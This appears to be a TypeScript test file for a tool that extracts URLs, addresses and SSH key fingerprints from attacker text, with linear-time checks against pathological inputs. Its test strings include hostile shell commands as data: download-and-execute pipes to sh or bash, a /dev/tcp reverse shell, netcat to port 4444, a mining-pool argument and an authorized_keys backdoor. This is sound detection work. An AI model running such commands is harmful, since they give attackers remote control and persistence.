import assert from 'node:assert/strict';
import { test } from 'node:test';
import { addresses, endpointOf, sshKeys, urls } from './indicators.ts';

test('URLs end where a shell, a quote or a sentence ends them', () => {
  const cases: [text: string, found: string[]][] = [
    ['wget http://192.0.2.1/a.sh;chmod 777 a.sh', ['http://192.0.2.1/a.sh']],
    ['curl -s "https://x.example/a?b=1&c=2"|sh', ['https://x.example/a?b=1&c=2']],
    ['(curl http://a.example/1||wget -O- http://a.example/2)|bash', ['http://a.example/1', 'http://a.example/2']],
    ['http://a.example/x&&sh x', ['http://a.example/x']],
    ['see https://a.example/page.', ['https://a.example/page']],
    ['tftp://192.0.2.1/x ftp://u:p@192.0.2.1:2121/y', ['tftp://192.0.2.1/x', 'ftp://u:p@192.0.2.1:2121/y']],
    ['http://[2001:db8::1]:8080/z', ['http://[2001:db8::1]:8080/z']],
    ['-o stratum+tcp://pool.example:3333 -u x', ['stratum+tcp://pool.example:3333']],
    ['HTTP://A.example/x http://a.example', ['HTTP://A.example/x', 'http://a.example']],
    ['ssh://root@192.0.2.9:22', ['ssh://root@192.0.2.9:22']],
    ['http:// http:/a xhttp://a.example/x', []],
    ['http://例え.example/あ', ['http://例え.example/あ']],
  ];
  for (const [text, found] of cases) assert.deepEqual(urls(text), found, text);
  assert.deepEqual(urls('http://a.example/x?a=(1)&b=2;c', true), ['http://a.example/x?a=(1)&b=2;c']);
});

test('hosts are told as the network sees them', () => {
  for (const url of ['http://0x7f.1/', 'http://2130706433/', 'http://0177.0.0.1/', 'http://127.1:80/x'])
    assert.equal(endpointOf(url)?.host, '127.0.0.1', url);
  assert.deepEqual(endpointOf('ftp://u:p@EXAMPLE.com:2121/x'), { host: 'example.com', port: 2121 });
  assert.deepEqual(endpointOf('http://[2001:DB8::1]/'), { host: '2001:db8::1' });
  assert.equal(endpointOf('http://a.example:99999/'), undefined);
  assert.equal(endpointOf('not a url'), undefined);
});

test('addresses: with ports, in devices, of IPv6; versions, times and paths are none', () => {
  const cases: [text: string, found: string[]][] = [
    ['nc 192.0.2.1 4444', ['192.0.2.1']],
    ['192.0.2.1:4444, 198.51.100.7.', ['192.0.2.1:4444', '198.51.100.7']],
    ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', ['192.0.2.1:4444']],
    ['exec 3<>/dev/udp/evil.example/53', ['evil.example:53']],
    ['-o pool.example.org:3333', ['pool.example.org:3333']],
    ['ping 2001:db8::7 and [2001:db8::8]:22', ['2001:db8::7', '[2001:db8::8]:22']],
    ['http://192.0.2.5:8080/x', ['192.0.2.5:8080']],
    ['http://a.example/192.0.2.9', []],
    ['Chrome/120.0.0.0 at 12:30:45, 1.2.3, 1.2.3.4.5, 999.1.1.1, a.sh:x', []],
    ['http://0x7f000001:81/', ['127.0.0.1:81']],
    ['std::vector 1::', ['1::']],
    ['::ffff:192.0.2.1', ['::ffff:192.0.2.1']],
  ];
  for (const [text, found] of cases) assert.deepEqual(addresses(text), found, text);
});

test('keys are told as ssh-keygen -l tells them', () => {
  const ed = 'AAAAC3NzaC1lZDI1NTE5AAAAIFu/eMJJpUQTgQybSDsomSliNB5A6KU9DHPtqOZG7DjR';
  // ssh-keygen -lf of this key.
  const fingerprint = 'SHA256:qA5z+DsmzNmGuqq9jnJh9ctjq8t45mGkX8ie+ktdLI8';
  assert.deepEqual(sshKeys(`echo "ssh-ed25519 ${ed} me@host">>.ssh/authorized_keys`), [
    { type: 'ssh-ed25519', fingerprint, comment: 'me@host' },
  ]);
  assert.deepEqual(sshKeys(`command="x" ssh-ed25519 ${ed}\nssh-ed25519 ${ed} again`), [
    { type: 'ssh-ed25519', fingerprint },
  ]);
  assert.deepEqual(sshKeys(`ssh-rsa ${ed}`), [], 'the blob is of another type');
  assert.deepEqual(sshKeys('ssh-rsa AAAA and ssh-keygen -t ed25519'), []);
});

test('hostile texts are looked through in linear time, and give a bounded number', () => {
  const size = 1 << 18;
  const fill = (unit: string) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
  for (const unit of [
    'http://',
    'http://a',
    'a@',
    'http://a@',
    'ssh-rsa ',
    'ssh-rsa AAAA',
    '1.',
    '1.2.3.4',
    '1.2.3.4 ',
    ':',
    'a:',
    '[::',
    '::1 ',
    'a.',
    'a.b:1 ',
    '/dev/tcp/',
    '/dev/tcp/a/1 ',
    '.',
    ')',
    'http://x/)',
    'a-',
    'AAAA',
    '\ud800',
    'é',
    '&&',
    'http://[',
    'stratum+',
  ]) {
    const text = fill(unit);
    const before = process.cpuUsage();
    const found = [urls(text), urls(text, true), addresses(text), sshKeys(text)];
    const { user, system } = process.cpuUsage(before);
    for (const list of found) assert.ok(list.length <= 64, unit);
    assert.ok(user + system < 1_000_000, `${JSON.stringify(unit)} took ${(user + system) / 1000} ms of CPU`);
  }
});
